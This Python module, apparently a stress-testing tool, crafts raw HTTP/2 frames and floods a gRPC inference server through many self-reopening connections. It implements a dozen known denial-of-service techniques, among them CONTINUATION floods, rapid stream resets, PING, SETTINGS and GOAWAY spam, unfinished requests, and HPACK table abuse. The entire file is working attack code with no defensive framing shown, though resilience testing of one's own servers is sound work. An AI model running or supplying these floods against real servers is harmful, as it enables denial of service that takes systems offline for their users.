"""Floods of HTTP/2 frames (RFC 9113) against a gRPC server."""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, _, RST, SETTINGS, _, PING, GOAWAY, _, CONTINUATION = range(10)
END_HEADERS, PADDED = 4, 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def field(name: str, value: str) -> bytes:
    """Return a header field that is not stored in HPACK's table (RFC 7541)."""
    return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


CALL = b"".join(
    field(*pair)
    for pair in {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/inference.GRPCInferenceService/ServerLive",
        ":authority": "a",
        "content-type": "application/grpc",
        "te": "trailers",
    }.items()
)
MESSAGE = bytes(5)
STORED = b"\x40\x01a\x7f\xad\x1a" + b"x" * 3500  # a field of 3,500 bytes, which the table keeps as number 62
OPENING = PREFACE + frame(SETTINGS, 0, 0)
HALF_HEADERS = OPENING + frame(HEADERS, 0, 1, CALL)
HALF_REQUEST = OPENING + frame(HEADERS, END_HEADERS, 1, CALL)


def requests(each: Callable[[int], bytes], count: int) -> Callable[[int], bytes]:
    """Return the frames of `count` further streams for each round."""
    return lambda turn: b"".join(each(2 * number + 3) for number in range(turn * count, (turn + 1) * count))


def begin(stream: int, further: bytes = b"") -> bytes:
    """Return the headers of a request."""
    return frame(HEADERS, END_HEADERS, stream, CALL + further)


# By name: what each connection sends first, and then in each round.
FLOODS: dict[str, tuple[bytes, Callable[[int], bytes]]] = {
    "small headers in CONTINUATION": (
        HALF_HEADERS,
        lambda _: frame(CONTINUATION, 0, 1, field("a", "b") * 3000) * 4,
    ),
    "empty CONTINUATION": (HALF_HEADERS, lambda _: frame(CONTINUATION, 0, 1) * 2000),
    "GOAWAY with long texts": (OPENING, lambda _: frame(GOAWAY, 0, 0, bytes(8) + b"x" * 16000) * 4),
    "GOAWAY with short texts": (OPENING, lambda _: frame(GOAWAY, 0, 0, bytes(8) + b"x" * 1000) * 60),
    "long SETTINGS": (OPENING, lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 2700) * 4),
    "PING": (OPENING, lambda _: frame(PING, 0, 0, bytes(8)) * 2000),
    "padded DATA": (HALF_REQUEST, lambda _: frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 200),
    "reset streams": (
        OPENING,
        requests(lambda stream: begin(stream) + frame(RST, 0, stream, struct.pack(">I", 8)), 200),
    ),
    "unfinished requests with small headers": (
        OPENING,
        requests(lambda stream: begin(stream, field("a", "b") * 3200), 4),
    ),
    "unfinished requests within the limit": (
        OPENING,
        requests(lambda stream: begin(stream, field("a", "b") * 215), 20),
    ),
    "references to a long header": (
        OPENING + frame(HEADERS, END_HEADERS, 1, CALL + STORED),
        requests(lambda stream: begin(stream, b"\xbe" * 15000), 4),
    ),
    "changes of the table": (OPENING, requests(lambda stream: begin(stream, STORED), 16)),
}


class _Connection:
    def __init__(self, address: tuple[str, int], name: str) -> None:
        self._unsent, self._turn, self._rounds = FLOODS[name][0], 0, FLOODS[name][1]
        self.socket = socket.socket()
        self.socket.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            self.socket.connect(address)

    def send(self) -> int:
        if not self._unsent:
            self._unsent = self._rounds(self._turn)
            self._turn += 1
        sent = self.socket.send(self._unsent) if self._unsent else 0
        self._unsent = self._unsent[sent:]
        return sent


def flood(address: tuple[str, int], name: str, connections: int, seconds: float) -> int:
    """Send a flood over many connections, which are opened again when the server closes them; return the bytes sent."""
    sent, end = 0, time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        missing = connections
        while time.monotonic() < end:
            for _ in range(missing):
                connection = _Connection(address, name)
                selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
            missing = 0
            for key, events in selector.select(0.1):
                try:
                    if events & selectors.EVENT_READ and not key.data.socket.recv(1 << 16):
                        raise ConnectionError
                    if events & selectors.EVENT_WRITE:
                        sent += key.data.send()
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(key.fileobj)
                    key.data.socket.close()
                    missing += 1
        for key in list(selector.get_map().values()):
            key.data.socket.close()
    return sent
